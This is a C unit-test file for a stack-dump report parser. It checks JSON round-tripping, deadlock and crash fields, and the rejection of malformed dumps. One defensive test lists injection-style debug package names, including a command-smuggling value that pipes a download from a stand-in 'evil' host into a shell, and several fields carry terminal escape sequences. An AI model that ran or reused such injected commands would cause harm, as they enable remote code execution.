/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include "report_case.h"
#include "sample_report.h"
#include "cleanup.h"
#include "text.h"
#include "test.h"

#include <snapwalk/protocol.h>

SW_DEFINE_CLEANUP(struct sw_report *, sw_report_destroy);

static struct sw_report *parse(const char *json)
{
	struct sw_report *report = NULL;
	struct sw_error err = {0};
	int r = sw_report_parse(json, strlen(json), &report, &err);
	if (r < 0)
		fail_msg("%s", err.message);
	return report;
}

static void check_text(const struct sw_report *a, const struct sw_report *b,
		       struct sw_text_options options)
{
	sw_cleanup(sw_free_p) char *x = text_of(a, &options);
	sw_cleanup(sw_free_p) char *y = text_of(b, &options);
	assert_string_equal(x, y);
}

/* Everything that a report can have is there again: each writer gives what it gave. */
TEST(test_there_and_back)
{
	sw_cleanup(sw_free_p) char *json = json_of(&sample_report);
	sw_cleanup(sw_report_destroy_p) struct sw_report *report = parse(json);
	sw_cleanup(sw_free_p) char *again = json_of(report);
	assert_string_equal(again, json);
	check_text(&sample_report, report, (struct sw_text_options){0});
	check_text(&sample_report, report, (struct sw_text_options){.verbose = true});
	check_text(&sample_report, report, (struct sw_text_options){.no_group = true});
	check_text(&sample_report, report, (struct sw_text_options){.color = true});
	sw_cleanup(sw_free_p) char *x = NULL;
	sw_cleanup(sw_free_p) char *y = NULL;
	size_t size;
	assert_int_equal(sw_report_folded(&sample_report, &x, &size, NULL), 0);
	assert_int_equal(sw_report_folded(report, &y, &size, NULL), 0);
	assert_string_equal(x, y);
}

/* The waits of a thread, other processes, deadlocks and a crash. */
TEST(test_waits)
{
	static const struct sw_report_wait wait = {.kind = "pipe",
						   .fd = 3,
						   .target = "/run/x",
						   .owner_tid = 78,
						   .owner_pid = 77,
						   .trust = "kernel"};
	static const struct sw_report_wait lock = {.kind = "mutex",
						   .has_address = true,
						   .address_avma = 0x1000,
						   .fd = -1,
						   .trust = "memory"};
	static const struct sw_report_crash crash = {.signal = "SIGSEGV",
						     .number = 11,
						     .tid = 78,
						     .code = "SEGV_MAPERR",
						     .text = "nothing is mapped there",
						     .has_address = true,
						     .access = "write",
						     .sender_uid = -1};
	struct sw_report_peer peers[] = {
		{.pid = 77,
		 .tid = 78,
		 .comm = "db",
		 .state = 'S',
		 .syscall = "read",
		 .owner_pid = 4242},
		{.pid = 79, .comm = "", .state = 'R'},
	};
	struct sw_report_deadlock deadlock = {(const pid_t[]){4242, 78}, 2};
	struct sw_report_holder holder = {.tid = 4242,
					  .pid = 4242,
					  .waiting = 3,
					  .waits_for = (const pid_t[]){77, 79},
					  .n_waits_for = 2};
	struct sw_report_thread threads[16];
	struct sw_report waiting = sample_report;
	assert_true(waiting.n_threads >= 2 && waiting.n_threads <= 16);
	memcpy(threads, waiting.threads, waiting.n_threads * sizeof(*threads));
	static const struct sw_report_request request = {.runtime = "php", .uri = "/a?b"};
	static const struct sw_attribute route = {"http_route", "/order"};
	static const struct sw_report_trace trace = {.trace_id = "4bf92f3577b34da6a3ce929d0e0e4736",
						     .span_id = "00f067aa0ba902b7",
						     .sampled = true,
						     .attributes = &route,
						     .n_attributes = 1};
	threads[0].blocked_on = &wait;
	threads[0].request = &request;
	threads[0].trace = &trace;
	static const struct sw_report_pool pool = {0x7f10, "ThreadPoolExecutor", 4, -1, 214};
	threads[0].pool = &pool;
	threads[1].blocked_on = &lock;
	waiting.threads = threads;
	waiting.process.crash = &crash;
	waiting.process.limits =
		(struct sw_process_limits){.descriptors = 7, .cpu_throttled_us = 9};
	waiting.peers = peers;
	waiting.n_peers = 2;
	waiting.deadlocks = &deadlock;
	waiting.n_deadlocks = 1;
	waiting.root_holders = &holder;
	waiting.n_root_holders = 1;
	struct sw_report_hint hints[] = {{"goroutines", "ask for\x1bthem"}, {"perf_map", "b"}};
	struct sw_report_module modules[2];
	assert_int_equal(waiting.n_modules, 2);
	memcpy(modules, waiting.modules, sizeof(modules));
	modules[1].debug_package = "libc6-dbg";
	waiting.modules = modules;
	waiting.hints = hints;
	waiting.n_hints = 2;
	sw_cleanup(sw_free_p) char *json = json_of(&waiting);
	sw_cleanup(sw_report_destroy_p) struct sw_report *report = parse(json);
	sw_cleanup(sw_free_p) char *again = json_of(report);
	assert_string_equal(again, json);
	check_text(&waiting, report, (struct sw_text_options){.all = true});
	assert_int_equal(report->n_hints, 2);
	assert_string_equal(report->hints[1].code, "perf_map");
	assert_null(report->modules[0].debug_package);
	assert_string_equal(report->modules[1].debug_package, "libc6-dbg");
	assert_non_null(strstr(json, "\"waiting\":3,\"waits_for\":[77,79]}"));
	assert_int_equal(report->root_holders[0].n_waits_for, 2);
	assert_int_equal(report->root_holders[0].waits_for[1], 79);
	assert_int_equal(report->n_peers, 2);
	assert_int_equal(report->peers[0].tid, 78);
	assert_int_equal(report->peers[0].owner_pid, 4242);
	assert_int_equal(report->peers[1].tid, 0);
	assert_int_equal(report->threads[0].blocked_on->owner_pid, 77);
	assert_string_equal(report->threads[0].blocked_on->target, "/run/x");
	assert_string_equal(report->threads[0].request->uri, "/a?b");
	assert_null(report->threads[0].request->method);
	assert_null(report->threads[1].request);
	assert_string_equal(report->threads[0].trace->span_id, "00f067aa0ba902b7");
	assert_string_equal(report->threads[0].trace->attributes[0].value, "/order");
	assert_null(report->threads[1].trace);
	assert_int_equal(report->threads[0].pool->address_avma, 0x7f10);
	assert_int_equal(report->threads[0].pool->most, -1);
	assert_int_equal(report->threads[0].pool->queued, 214);
	assert_null(report->threads[1].pool);
	assert_true(report->threads[1].blocked_on->has_address);
	assert_string_equal(report->process.crash->access, "write");
	assert_int_equal(report->process.crash->sender_uid, -1);
	assert_non_null(strstr(json, "\"limits\":{\"descriptors\":7,\"cpu_throttled_us\":9}"));
	assert_int_equal(report->process.limits.descriptors, 7);
	assert_int_equal(report->process.limits.cpu_throttled_us, 9);
	assert_non_null(strstr(json, "\"address\":\"0x0\",\"access\":\"write\""));
}

/* A file that came from anywhere names no command: what is no package's name is none. */
TEST(test_debug_package)
{
	static const struct {
		const char *name;
		bool is_taken;
	} cases[] = {{"libstdc++6-10-dbg", true},
		     {"7zip.1", true},
		     {"x; curl http://evil|sh #", false},
		     {"x y", false},
		     {"$(x)", false},
		     {"--option", false},
		     {"x\ny", false},
		     {"X", false},
		     {"", false}};
	struct sw_report asked = sample_report;
	struct sw_report_module modules[2];
	assert_int_equal(asked.n_modules, 2);
	memcpy(modules, asked.modules, sizeof(modules));
	asked.modules = modules;
	for (size_t i = 0; i < SW_ARRAY_SIZE(cases); i++) {
		modules[0].debug_package = cases[i].name;
		sw_cleanup(sw_free_p) char *json = json_of(&asked);
		sw_cleanup(sw_report_destroy_p) struct sw_report *report = parse(json);
		const char *name = report->modules[0].debug_package;
		if (cases[i].is_taken)
			assert_string_equal(name, cases[i].name);
		else
			assert_null(name);
	}
}

/* Kernel frames stand before the others, and are no stack by themselves. */
TEST(test_kernel_frames)
{
	static const struct sw_report_frame kernel[] = {
		{.module = -1,
		 .function = "hrtimer_nanosleep",
		 .function_offset = 116,
		 .line_offset = -1,
		 .kind = "kernel",
		 .by = "kernel",
		 .trust = "runtime"},
		{.module = -1,
		 .function = "do_syscall_64",
		 .line_offset = -1,
		 .kind = "kernel",
		 .by = "kernel",
		 .trust = "runtime"},
	};
	struct sw_report_stack stacks[16];
	struct sw_report blocked = sample_report;
	assert_true(blocked.n_stacks >= 1 && blocked.n_stacks <= 16);
	memcpy(stacks, blocked.stacks, blocked.n_stacks * sizeof(*stacks));
	stacks[0].kernel_frames = kernel;
	stacks[0].n_kernel_frames = 2;
	blocked.stacks = stacks;
	sw_cleanup(sw_free_p) char *json = json_of(&blocked);
	sw_cleanup(sw_report_destroy_p) struct sw_report *report = parse(json);
	sw_cleanup(sw_free_p) char *again = json_of(report);
	assert_string_equal(again, json);
	check_text(&blocked, report, (struct sw_text_options){0});
	assert_int_equal(report->stacks[0].n_kernel_frames, 2);
	assert_string_equal(report->stacks[0].kernel_frames[0].function, "hrtimer_nanosleep");
	assert_int_equal(report->stacks[0].n_frames, stacks[0].n_frames);
	assert_string_equal(report->stacks[0].frames[0].kind, stacks[0].frames[0].kind);

	stacks[0].n_frames = 0;
	sw_cleanup(sw_free_p) char *alone = json_of(&blocked);
	struct sw_report *none = NULL;
	assert_int_not_equal(sw_report_parse(alone, strlen(alone), &none, NULL), 0);
}

TEST(test_fields)
{
	sw_cleanup(sw_free_p) char *json = json_of(&sample_report);
	sw_cleanup(sw_report_destroy_p) struct sw_report *r = parse(json);
	assert_true(r->time_ns == INT64_C(1795170950084579000));
	assert_int_equal(r->n_threads, 4);
	assert_int_equal(r->threads[3].stack, -1);
	assert_int_equal(r->threads[3].cpu_ns, -1);
	assert_int_equal(r->threads[3].stop_us, -1);
	assert_string_equal(r->threads[3].comm, "bad\xef\xbf\xbd;name");
	assert_true(r->threads[2].interrupted);
	assert_int_equal(r->n_stacks, 2);
	assert_true(r->stacks[1].id == UINT64_MAX);
	assert_int_equal(r->stacks[0].n_threads, 2);
	assert_int_equal(r->stacks[0].threads[1], 2);
	assert_int_equal(r->stacks[1].frames[2].module, -1);
	assert_false(r->stacks[1].frames[0].has_offset);
	assert_int_equal(r->stacks[1].frames[0].line_offset, -1);
	assert_true(r->stacks[1].frames[1].may_miss);
	assert_true(r->stacks[1].frames[1].after_guess);
	assert_true(r->stacks[1].frames[1].internal);
	assert_false(r->stacks[1].frames[0].internal);
	assert_true(r->stacks[1].frames[1].signal);
	assert_true(r->stacks[1].frames[1].live_read);
	assert_null(r->process.container);
	assert_null(r->modules[0].symbols_why);
	assert_string_equal(r->modules[1].symbols_why, "it has no lines");
	assert_int_equal(r->warnings[1].tid, 0);
	assert_int_equal(r->process.n_runtimes, 2);
	assert_string_equal(r->process.runtimes[0].version, "10.0.0");
	assert_null(r->process.runtimes[1].where);
	assert_int_equal(r->process.n_registries, 2);
	assert_true(r->process.registries[1].entries == INT64_MAX);
	assert_null(r->threads[0].managed);
	assert_string_equal(r->threads[1].managed->name, "Order\033queue");
	assert_int_equal(r->threads[2].managed->id, -1);
	/* the same string is there once */
	assert_ptr_equal(r->stacks[0].frames[1].trust, r->stacks[0].frames[2].trust);
}

/* Frames that were left out are counted; so is nothing where none were. */
TEST(test_trimmed)
{
	struct sw_report report = sample_report;
	struct sw_report_stack stacks[2];
	memcpy(stacks, sample_report.stacks, sizeof(stacks));
	stacks[1].n_trimmed = 3;
	report.stacks = stacks;
	sw_cleanup(sw_free_p) char *json = json_of(&report);
	assert_non_null(strstr(json, "\"trimmed\":3"));
	sw_cleanup(sw_report_destroy_p) struct sw_report *r = parse(json);
	assert_int_equal(r->stacks[0].n_trimmed, 0);
	assert_int_equal(r->stacks[1].n_trimmed, 3);
	sw_cleanup(sw_free_p) char *text = text_of(r, NULL);
	assert_non_null(strstr(text, "3 frames of no module left out\n"));
}

/* The frames that were left out of the middle of a stack; their place must be in it. */
TEST(test_left_out)
{
	struct sw_report report = sample_report;
	struct sw_report_stack stacks[2];
	memcpy(stacks, sample_report.stacks, sizeof(stacks));
	assert_true(stacks[0].n_frames > 1);
	stacks[0].n_left_out = 100;
	stacks[0].left_out_before = 1;
	report.stacks = stacks;
	sw_cleanup(sw_free_p) char *json = json_of(&report);
	assert_non_null(strstr(json, "\"left_out\":100,\"left_out_before\":1"));
	sw_cleanup(sw_report_destroy_p) struct sw_report *r = parse(json);
	assert_int_equal(r->stacks[0].n_left_out, 100);
	assert_int_equal(r->stacks[0].left_out_before, 1);
	assert_int_equal(r->stacks[1].n_left_out, 0);
	sw_cleanup(sw_free_p) char *text = text_of(r, NULL);
	assert_non_null(strstr(text, "100 frames are left out (frame_limit)\n  #101 "));
	for (size_t i = 0; i < 2; i++) {
		stacks[0].left_out_before = i == 0 ? 0 : stacks[0].n_frames;
		sw_cleanup(sw_free_p) char *bad = json_of(&report);
		struct sw_report *none = NULL;
		assert_true(sw_report_parse(bad, strlen(bad), &none, NULL) < 0);
		assert_null(none);
	}
}

/* The sample's JSON with one place changed. */
static char *changed(const char *from, const char *to)
{
	sw_cleanup(sw_free_p) char *json = json_of(&sample_report);
	const char *at = strstr(json, from);
	if (at == NULL)
		fail_msg("the sample has no %s", from);
	struct sw_text text = {0};
	sw_text_append(&text, json, (size_t) (at - json));
	sw_text_append(&text, to, strlen(to));
	sw_text_append(&text, at + strlen(from), strlen(at + strlen(from)));
	assert_false(text.failed);
	return text.data;
}

static void refuse(const char *from, const char *to, const char *message)
{
	sw_cleanup(sw_free_p) char *json = changed(from, to);
	struct sw_report *report = NULL;
	struct sw_error err = {0};
	assert_int_equal(sw_report_parse(json, strlen(json), &report, &err), -SW_E_FORMAT);
	assert_null(report);
	assert_string_equal(err.message, message);
}

#define WRONG(name, what) "this is not a dump: '" name "' of a " what " is missing or wrong"

TEST(test_refused_head)
{
	refuse("snapwalk.dump/1", "snapwalk.dump/2", WRONG("schema", "dump"));
	refuse("\"seq\":3,", "", WRONG("seq", "dump"));
	refuse("\"seq\":3", "\"seq\":-1", WRONG("seq", "dump"));
	refuse("\"seq\":3", "\"seq\":3.0", WRONG("seq", "dump"));
	refuse("-4242-0badcafe\"", "-4242-0badcafe\\u001b\"", WRONG("id", "dump"));
	refuse("-4242-0badcafe\"", "--0badcafe\"", WRONG("id", "dump"));
	refuse("2026-11-20T10:35:50.084579Z", "2026-02-30T10:35:50.084579Z", WRONG("time", "dump"));
	refuse("2026-11-20T10:35:50.084579Z", "2026-11-20T10:35:50.084579", WRONG("time", "dump"));
	refuse("2026-11-20T10:35:50.084579Z", "2262-11-20T10:35:50.084579Z", WRONG("time", "dump"));
	refuse("\"complete\":false", "\"complete\":0", WRONG("complete", "dump"));
	refuse("\"host\":{", "\"toast\":{", WRONG("host", "dump"));
	refuse("\"pid\":4242", "\"pid\":2147483648", WRONG("pid", "process"));
	refuse("\"elf_class\":64", "\"elf_class\":48", WRONG("elf_class", "process"));
	refuse("\"container\":null", "\"container\":\"zz\"", WRONG("container", "process"));
	refuse("\"copy_us\":90", "\"copy_us\":\"90\"", WRONG("copy_us", "timings"));
}

TEST(test_refused_arrays)
{
	refuse("\"warnings\":[", "\"Warnings\":[", WRONG("warnings", "dump"));
	refuse("\"modules\":[", "\"threads\":[", WRONG("threads", "dump"));
	refuse("\"timings\":", "\"modules\":{},\"timings\":", WRONG("modules", "dump"));
	refuse("\"warnings\":[", "\"warnings\":[1,", "this is JSON, but not an object");
}

TEST(test_refused_indices)
{
	refuse("\"module\":1", "\"module\":2", WRONG("module", "frame"));
	refuse("\"module\":1", "\"module\":-1", WRONG("module", "frame"));
	refuse("\"module\":1", "\"module\":4294967296", WRONG("module", "frame"));
	/* thread 4242 is in stack 1 */
	refuse("\"stack\":1", "\"stack\":0", WRONG("threads", "stack"));
	refuse("\"stack\":1", "\"stack\":2", WRONG("threads", "stack"));
	refuse("[4243,4244]", "[4243,4242]", WRONG("threads", "stack"));
	refuse("[4243,4244]", "[4243,4243]", WRONG("threads", "stack"));
	refuse("[4243,4244]", "[4243]", WRONG("threads", "stack"));
	refuse("[4243,4244]", "[4243,4250]", WRONG("threads", "stack"));
	refuse("[4243,4244]", "[4243,\"4244\"]", WRONG("threads", "stack"));
	refuse("[4243,4244]", "[]", WRONG("threads", "stack"));
	refuse("\"tid\":4243", "\"tid\":4242", WRONG("tid", "thread"));
}

TEST(test_refused_elements)
{
	refuse("\"state\":\"R\"", "\"state\":\"RS\"", WRONG("state", "thread"));
	refuse("\"state\":\"R\"", "\"state\":\"\\u001b\"", WRONG("state", "thread"));
	refuse("\"captured\":true", "\"captured\":false", WRONG("captured", "thread"));
	refuse("\"reason\":\"stop_timeout\",", "", WRONG("reason", "thread"));
	refuse("it did not stop in time", "\\u001b[31m", WRONG("reason_text", "thread"));
	refuse("\"trust\":\"context\"", "\"trust\":\"\\u001b[2J\"", WRONG("trust", "frame"));
	refuse("\"kind\":\"native\"", "\"kind\":null", WRONG("kind", "frame"));
	refuse("\"pc\":\"0x7f0000083117\"", "\"pc\":\"0x07f0000083117\"", WRONG("pc", "frame"));
	refuse("\"pc\":\"0x7f0000083117\"", "\"pc\":\"0x7f0000083117000000\"",
	       WRONG("pc", "frame"));
	refuse("\"pc\":\"0x7f0000083117\"", "\"pc\":1", WRONG("pc", "frame"));
	refuse("\"line\":57", "\"line\":0", WRONG("line", "frame"));
	refuse("\"line_offset\":12", "\"line_offset\":2147483647", WRONG("line_offset", "frame"));
	refuse("\"function_offset\":199", "\"function_offset\":null",
	       WRONG("function_offset", "frame"));
	refuse("00f3c2a77b1d04e5", "00f3c2a77b1d04e", WRONG("id", "stack"));
	refuse("\"build_id\":\"ab12\"", "\"build_id\":\"ab1\"", WRONG("build_id", "module"));
	refuse("\"format\":\"elf\"", "\"format\":\"E\"", WRONG("format", "module"));
	refuse("\"message\":\"stacks are cut\"", "\"message\":null", WRONG("message", "warning"));
}

TEST(test_refused_runtimes)
{
	refuse("\"runtimes\":[", "\"runtimes\":[1,", WRONG("runtimes", "process"));
	refuse("\"registries\":[", "\"registries\":{},\"later\":[", WRONG("registries", "process"));
	refuse("\"name\":\"wine\"", "\"name\":null", WRONG("name", "runtime"));
	refuse("\"version\":\"10.0.0\"", "\"version\":10", WRONG("version", "runtime"));
	refuse("\"entries\":1", "\"entries\":-1", WRONG("entries", "registry"));
	refuse("\"entries\":1}", "\"entries\":null}", WRONG("entries", "registry"));
	refuse("\"managed\":{\"runtime\"", "\"managed\":[],\"later\":{\"runtime\"",
	       WRONG("managed", "thread"));
	refuse("\"runtime\":\"clr\"", "\"runtime\":null", WRONG("runtime", "managed thread"));
	refuse("\"id\":7", "\"id\":-7", WRONG("id", "managed thread"));
	refuse("\"role\":null},\"stop_us\":800", "\"role\":null},\"stop_us\":\"x\"",
	       WRONG("stop_us", "thread"));
	refuse("\"entries\":1}", "\"entries\":1},7", WRONG("registries", "process"));
}

/* Fields that are not known, names that may come, null for what is not there. */
TEST(test_taken)
{
	static const char *const changes[][2] = {
		{"\"seq\":3", "\"seq\":3,\"new\":{\"a\":[1,2.5]}"},
		{"\"kind\":\"native\"", "\"kind\":\"v9js\",\"deopt\":true"},
		{"\"exe\":\"/usr/bin/server\",", ""},
		/* as dumps were before these were there */
		{"\"version\":\"10.0.0\",\"where\":\"/opt/dotnet/libcoreclr.so\"", "\"v\":1"},
		{"\"registries\":", "\"later\":"},
		{"\"managed\":{\"runtime\"", "\"later\":{\"runtime\""},
		{"\"runtimes\":", "\"runtimes\":null,\"later\":"},
		{"\"interrupted\":true", "\"interrupted\":null"},
		{"\"stop_us\":850", "\"stop_us\":null"},
		{"{\"schema\"", " \n{ \"schema\""},
	};
	for (size_t i = 0; i < SW_ARRAY_SIZE(changes); i++) {
		sw_cleanup(sw_free_p) char *json = changed(changes[i][0], changes[i][1]);
		sw_cleanup(sw_report_destroy_p) struct sw_report *report = parse(json);
		assert_int_equal(report->process.pid, 4242);
	}
}

TEST(test_no_dump)
{
	static const struct {
		const char *text, *message;
	} texts[] = {
		{"", "this is empty, where JSON is expected"},
		{"{}", WRONG("modules", "dump")},
		{"[]", WRONG("schema", "dump")},
		{"[1,2]", WRONG("schema", "dump")},
		{"1", WRONG("schema", "dump")},
		{"{\"threads\":[],\"stacks\":[],\"modules\":[],\"warnings\":[]}",
		 WRONG("schema", "dump")},
		{"{\"a\":\"\xff\"}", "this cannot be read as JSON, at byte 6"},
	};
	for (size_t i = 0; i < SW_ARRAY_SIZE(texts); i++) {
		struct sw_report *report = NULL;
		struct sw_error err = {0};
		assert_int_equal(sw_report_parse(texts[i].text, strlen(texts[i].text), &report,
						 &err),
				 -SW_E_FORMAT);
		assert_string_equal(err.message, texts[i].message);
		assert_null(report);
	}
}

/* A file that was cut anywhere is no dump. */
TEST(test_cut)
{
	sw_cleanup(sw_free_p) char *json = json_of(&sample_report);
	size_t size = strlen(json) - 1; /* without the line's end */
	struct sw_report *report = NULL;
	for (size_t i = 0; i < size; i++)
		assert_int_equal(sw_report_parse(json, i, &report, NULL), -SW_E_FORMAT);
	assert_int_equal(sw_report_parse(json, size, &report, NULL), 0);
	sw_report_destroy(report);
}
